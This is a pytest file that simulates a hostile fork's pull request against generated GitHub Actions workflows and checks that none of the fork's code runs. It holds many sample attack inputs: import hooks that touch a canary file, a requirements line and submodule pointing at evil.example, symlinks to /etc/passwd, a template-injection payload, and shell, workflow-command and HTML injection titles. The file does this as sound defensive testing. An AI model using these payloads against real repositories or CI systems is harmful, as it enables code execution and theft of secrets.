"""P1 and P11: the pull request of a hostile fork against the workflows that `milepost init --ci github` writes.

Their own scripts are run, in the order and with the values that GitHub gives them. Nothing of the fork is run, what it
must not propose is not taken, and the log, the summary and the comment show its texts as texts.
"""

from __future__ import annotations

import re
import shutil
from dataclasses import dataclass
from pathlib import Path

import cmarkgfm
import pytest
from cmarkgfm.cmark import Options
from html5lib import parseFragment

from tests.attacks.test_p11_everywhere import assert_harmless
from tests.hosting.actions import Job, run_job, workflow
from tests.hosting.hosted import NUMBER, REPOSITORY, Hosted, hosted
from tests.hosting.starter import REQUIREMENTS, started
from tests.hosting.tools import Asked, answer, asked, installed

WORKFLOWS = Path(".github") / "workflows"
TAKE = "Take the proposed content and nothing else"
CANARY = "CANARY"
TITLES = [
    "\\e[2J\\e]0;owned\\a screen",
    "::error file=x::fake",
    "::set-output name=base::$(touch CANARY)",
    "##[add-path]/tmp",
    "[click](https://evil.example) ![x](https://evil.example/x.png)",
    "<img src=x onerror=alert(1)><script>alert(2)</script></details>",
    "@octocat @org/team #1 GH-1 https://evil.example www.evil.example",
    "$(touch CANARY) `touch CANARY` ${{ github.token }} ; touch CANARY",
    "-->\\n/close",
    "| a | b |",
]
COMMENTS = f"repos/{REPOSITORY}/issues/{NUMBER}/comments"
PULLS = f"repos/{REPOSITORY}/pulls?state=open&per_page=100"


@dataclass(frozen=True, slots=True)
class Tried:
    """Both workflows, after the fork has opened its pull request."""

    host: Hosted
    check: Job
    comment: Job

    @property
    def body(self) -> str:
        (written,) = [each for each in asked(self.comment.folder) if each.method != "GET"]
        return written.fields["body"]


def hostile(base: Path, fork: Path) -> Path:
    """Everything that a stranger could put into a pull request to have it run."""
    shutil.copytree(base, fork)
    canary = fork.parent / CANARY
    runs = f"from pathlib import Path\nPath({str(canary)!r}).touch()\n"
    for path in ("hook.py", "sitecustomize.py", "milepost/__init__.py", "milepost/__main__.py", "pip/__main__.py"):
        (fork / path).parent.mkdir(exist_ok=True)
        (fork / path).write_text(runs)
    with (fork / "mkdocs.yml").open("a") as config:
        config.write("\nhooks: [hook.py]\n")
    (fork / "requirements.txt").write_text("evil @ https://evil.example/evil.whl\n")
    (fork / ".gitattributes").write_text("* filter=evil diff=evil merge=evil\n")
    (fork / ".gitmodules").write_text('[submodule "x"]\n\tpath = x\n\turl = https://evil.example/x\n')
    for file in (fork / WORKFLOWS).iterdir():
        file.write_text(f"on: pull_request_target\njobs: {{x: {{steps: [{{run: touch {canary}}}]}}}}\n")
    (fork / "templates").mkdir()
    (fork / "templates" / "home.html").write_text("{{ ''.__class__.__mro__[1].__subclasses__() }} TEMPLATE OF FORK")
    (fork / "content" / "pages" / "own.md").write_text("# PAGE OF FORK\n")
    (fork / "content" / "pages" / "own.yml").write_text("PAGE OF FORK\n")
    (fork / "content" / "features" / "secret.yml").symlink_to("/etc/passwd")
    (fork / "content" / "goals.yml").symlink_to("../../../../../../etc/passwd")
    (fork / "content" / "linked").symlink_to("/etc")
    (fork / "content" / "huge.yml").write_bytes(b"a: b\n" * (17 * 1024 * 1024 // 5))
    (fork / "content" / "::error::x \x1b[2J\n##[x].yml").symlink_to("/")
    for number, title in enumerate(TITLES):
        text = title.replace('"', '\\"')
        (fork / "content" / "features" / f"f{number}.yml").write_text(f'title: "{text}"\nstatus: idea\ngoals: [no]\n')
    (fork / "content" / "features" / "undo.yml").unlink()
    return fork


def without_what_is_refused(fork: Path) -> Path:
    """The same proposal, so that the workflow gets to its later steps, too."""
    for file in sorted((fork / "content").rglob("*")):
        if file.is_symlink() or (file.is_file() and file.stat().st_size > 1_000_000):
            file.unlink()
    return fork


def tried(folder: Path, base: Path, fork: Path, *, comments: list[dict[str, object]] = ()) -> Tried:  # type: ignore[assignment]
    host = hosted(folder, base, fork)
    check = run_job(
        base / WORKFLOWS / "roadmap.yml",
        "check",
        folder=folder / "check",
        origin=host.origin,
        github=host.pull_request(),
    )
    answer(folder / "comment", {PULLS: host.pulls(), f"{COMMENTS}?per_page=100": [*comments]})
    comment = run_job(
        base / WORKFLOWS / "roadmap-comment.yml",
        "comment",
        folder=folder / "comment",
        origin=host.origin,
        github=host.workflow_run(),
    )
    return Tried(host, check, comment)


@pytest.fixture(scope="module")
def base(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return started(tmp_path_factory.mktemp("base"), ci="github")


@pytest.fixture(scope="module")
def refused(base: Path, tmp_path_factory: pytest.TempPathFactory) -> Tried:
    folder = tmp_path_factory.mktemp("refused")
    return tried(folder, base, hostile(base, folder / "fork"))


@pytest.fixture(scope="module")
def taken(base: Path, tmp_path_factory: pytest.TempPathFactory) -> Tried:
    folder = tmp_path_factory.mktemp("taken")
    return tried(folder, base, without_what_is_refused(hostile(base, folder / "fork")))


@pytest.fixture(params=["refused", "taken"])
def either(request: pytest.FixtureRequest) -> Tried:
    found: Tried = request.getfixturevalue(request.param)
    return found


def test_p1_nothing_of_the_fork_is_run(either: Tried) -> None:
    place = either.host.origin.parent
    assert not [*place.rglob(CANARY)]
    assert {step.name: step.code for step in either.comment.steps} == dict.fromkeys(
        ("Find the pull request", "Install", "Compare", "Write the comment"), 0
    )


def test_p1_the_tool_is_that_of_the_base(taken: Tried) -> None:
    assert installed(taken.check.folder) == REQUIREMENTS
    assert installed(taken.comment.folder) == REQUIREMENTS


def test_p1_links_and_huge_files_are_refused_and_nothing_is_built_of_them(refused: Tried) -> None:
    assert [step.name for step in refused.check.steps] == [TAKE]
    assert refused.check.outcome(TAKE) == 1
    log = refused.check.log
    for name in ("secret.yml", "goals.yml", "linked", "huge.yml", "content/??error??x???2J????x?.yml"):
        assert name in log
    assert "::error title=milepost::5 refused: only plain files of at most 16 MiB may be proposed" in log
    assert refused.check.artifacts == {}
    content = refused.check.workspace / "content"
    assert not [*filter(Path.is_symlink, content.rglob("*"))]
    assert not (content / "huge.yml").exists()


def test_p1_of_the_proposal_only_the_yaml_is_taken(taken: Tried) -> None:
    workspace = taken.check.workspace
    changed = {file.relative_to(workspace).as_posix() for file in workspace.rglob("*") if ".git" not in file.parts}
    assert not changed & {"hook.py", "sitecustomize.py", ".gitmodules", "templates", "content/pages/own.md"}
    assert "pull_request_target" not in (workspace / WORKFLOWS / "roadmap.yml").read_text()
    assert (workspace / "content" / "features" / "f0.yml").is_file()
    assert not (workspace / "content" / "features" / "undo.yml").exists()


def test_p1_what_is_checked_is_told_beside_the_lines(taken: Tried) -> None:
    assert taken.check.outcome("Check") == 1
    assert "::error file=content/features/f1.yml,line=3" in taken.check.log
    assert "title=unknown-reference::no goal is called `no`" in taken.check.log


def test_p11_nothing_quoted_is_a_command_in_a_log(either: Tried) -> None:
    ours = re.compile(r"^::(?:add-mask::\w+=*|error title=milepost::.*)$", re.MULTILINE)
    assert_harmless(ours.sub("", either.check.log + either.comment.log))
    assert_harmless(either.check.summary)


def test_p11_the_comment_shows_texts_as_texts(taken: Tried) -> None:
    # HTML goes through, so that what was not escaped is seen
    shown = cmarkgfm.github_flavored_markdown_to_html(taken.body, options=Options.CMARK_OPT_UNSAFE)
    tree = parseFragment(shown, namespaceHTMLElements=False)
    links = [each.get("href") for each in tree.iter("a")]
    assert links == ["https://github.example/product/roadmap/actions/runs/4711"]
    assert not [each.tag for each in tree.iter() if each.tag in ("img", "script", "h1", "table", "input")]
    shown = "".join(tree.itertext())
    text = shown.replace("\u200b", "")
    assert "<script>alert(2)</script></details>" in text
    assert "[click](https://evil.example)" in text
    assert "$(touch CANARY) `touch CANARY` ${{ github.token }}" in text
    # What a host looks for in what is rendered already, and commands of its own
    assert not re.search(r"@(?:octocat|org)|#1\b|GH-1|https://evil|www\.evil|^\s*/close", shown, re.MULTILINE)


def test_p11_the_page_of_what_changes_runs_nothing(taken: Tried) -> None:
    page = taken.check.artifacts["what-changes.html"].read_text(encoding="utf-8")
    assert "&lt;img src=x onerror=alert(1)&gt;" in page
    assert not re.search(r"<(?:script|img)\b(?![^>]*milepost)", page)


def test_the_comment_is_written_once_and_then_kept_up_to_date(base: Path, tmp_path: Path, taken: Tried) -> None:
    comments = [
        {"id": 1, "user": {"login": "somebody"}, "body": "<!-- milepost: what changes --> fake"},
        {"id": 2, "user": {"login": "github-actions[bot]"}, "body": "another"},
        {"id": 3, "user": {"login": "github-actions[bot]"}, "body": "<!-- milepost: what changes -->\nbefore"},
    ]
    fork = proposal(base, tmp_path, {"content/features/undo.yml": ("status: ", "status: shipped\nx-before: ")})
    again = tried(tmp_path, base, fork, comments=comments)
    assert [each for each in asked(again.comment.folder) if each.method != "GET"] == [
        Asked("PATCH", f"repos/{REPOSITORY}/issues/comments/3", {"body": again.body})
    ]
    (first,) = [each for each in asked(taken.comment.folder) if each.method != "GET"]
    assert (first.method, first.address) == ("POST", COMMENTS)


def test_without_a_change_of_the_plan_there_is_no_comment(base: Path, tmp_path: Path) -> None:
    done = tried(tmp_path, base, proposal(base, tmp_path, {"requirements.txt": ("1.2.3", "1.2.4")}))
    assert [each.method for each in asked(done.comment.folder)] == ["GET", "GET"]


def test_a_pull_request_that_moved_on_or_is_closed_gets_no_comment(base: Path, tmp_path: Path) -> None:
    host = hosted(tmp_path, base, proposal(base, tmp_path, {"content/vision.yml": ("title: ", "title: New ")}))
    answer(tmp_path / "comment", {PULLS: host.pulls()[:1]})
    job = run_job(
        base / WORKFLOWS / "roadmap-comment.yml",
        "comment",
        folder=tmp_path / "comment",
        origin=host.origin,
        github=host.workflow_run(),
    )
    assert [step.name for step in job.steps] == ["Find the pull request"]
    assert [each.method for each in asked(job.folder)] == ["GET"]


def test_a_sound_proposal_passes_and_is_shown(base: Path, tmp_path: Path) -> None:
    added = {"content/features/undo.yml": ("title: ", "title: Really ")}
    done = tried(tmp_path, base, proposal(base, tmp_path, added))
    assert {step.code for step in done.check.steps} == {0}, done.check.log
    assert sorted(done.check.artifacts) == ["preview", "what-changes.html"]
    page = done.check.artifacts["preview"] / "features" / "undo" / "index.html"
    assert "Really" in page.read_text(encoding="utf-8")
    assert "Really" in done.check.summary and "Really" in done.body


def test_the_site_may_stand_in_a_folder_of_the_repository(tmp_path: Path) -> None:
    base = tmp_path / "base"
    started(base / "docs", ci="github")
    (base / "docs" / ".github").rename(base / ".github")
    for file in (base / WORKFLOWS).iterdir():
        text = file.read_text(encoding="utf-8")
        assert "working-directory: .\n" in text
        file.write_text(text.replace("working-directory: .\n", "working-directory: docs\n"), encoding="utf-8")
    feature = "docs/content/features/undo.yml"
    done = tried(tmp_path, base, proposal(base, tmp_path, {feature: ("title: ", "goals: [no]\ntitle: Really ")}))
    assert installed(done.check.folder) == REQUIREMENTS
    assert f"::error file={feature},line=" in done.check.log
    assert "Really" in done.check.summary and "Really" in done.body


def test_what_somebody_else_pushes_has_no_comment(base: Path, tmp_path: Path) -> None:
    host = hosted(tmp_path, base, base)
    github = host.workflow_run(event="push")
    job = run_job(
        base / WORKFLOWS / "roadmap-comment.yml", "comment", folder=tmp_path / "c", origin=host.origin, github=github
    )
    assert job.steps == []


def test_these_tests_can_fail(base: Path, tmp_path: Path) -> None:
    """Whoever builds the fork as it is runs its hook."""
    fork = without_what_is_refused(hostile(base, tmp_path / "fork"))
    shutil.rmtree(fork / "content" / "features")
    host = hosted(tmp_path, base, fork)
    shutil.copytree(base, tmp_path / "trusting")
    trusting = tmp_path / "trusting" / WORKFLOWS / "roadmap.yml"
    text = trusting.read_text(encoding="utf-8")
    trusting.write_text(text.replace('git checkout --quiet --detach "$base"', 'git checkout --quiet "$PROPOSED"'))
    job = run_job(trusting, "check", folder=tmp_path / "check", origin=host.origin, github=host.pull_request())
    assert (tmp_path / CANARY).exists()
    assert installed(job.folder) != REQUIREMENTS


def test_no_workflow_runs_for_a_stranger_with_rights(base: Path) -> None:
    for file in sorted((base / WORKFLOWS).iterdir()):
        written = workflow(file)
        assert "pull_request_target" not in written["on"]
        assert written["permissions"] == {}
        if "pull_request" in written["on"]:
            (job,) = written["jobs"].values()
            assert job["permissions"] == {"contents": "read"}
        assert all("timeout-minutes" in job for job in written["jobs"].values())


def proposal(base: Path, folder: Path, changes: dict[str, tuple[str, str]]) -> Path:
    """A fork that only replaces one text in some files."""
    fork = shutil.copytree(base, folder / "fork")
    for path, (before, after) in changes.items():
        text = (fork / path).read_text(encoding="utf-8")
        assert before in text
        (fork / path).write_text(text.replace(before, after, 1), encoding="utf-8")
    return fork


def test_where_there_is_no_roadmap_yet_the_reason_is_said(base: Path, tmp_path: Path) -> None:
    (tmp_path / "code").mkdir()
    (tmp_path / "code" / "main.c").touch()
    host = hosted(tmp_path, tmp_path / "code", base)
    workflow_file, github = base / WORKFLOWS / "roadmap.yml", host.pull_request()
    check = run_job(workflow_file, "check", folder=tmp_path / "check", origin=host.origin, github=github)
    assert [(step.name, step.code) for step in check.steps] == [(TAKE, 1)]
    assert "There is no roadmap yet on the branch that this is for" in check.log
